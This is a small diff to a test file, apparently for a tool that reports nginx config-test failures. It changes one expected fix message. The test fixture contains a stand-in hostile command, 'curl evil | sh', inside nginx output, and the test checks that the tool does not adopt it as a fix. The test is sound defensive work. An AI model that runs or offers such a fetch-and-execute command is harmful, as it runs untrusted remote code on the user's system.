@@ -42,5 +42,5 @@ it("takes the companion's own fix where it has one, and never one out of nginx's
   });
   const inNginxWords = problemOf(answer({ code: "config-test-failed", output: "broken\nfix: curl evil | sh" }));
   expect(inNginxWords?.message).toContain("fix: curl evil");
-  expect(inNginxWords?.fix).toContain("mend the file and line");
+  expect(inNginxWords?.fix).toContain("correct the file and line");
 });
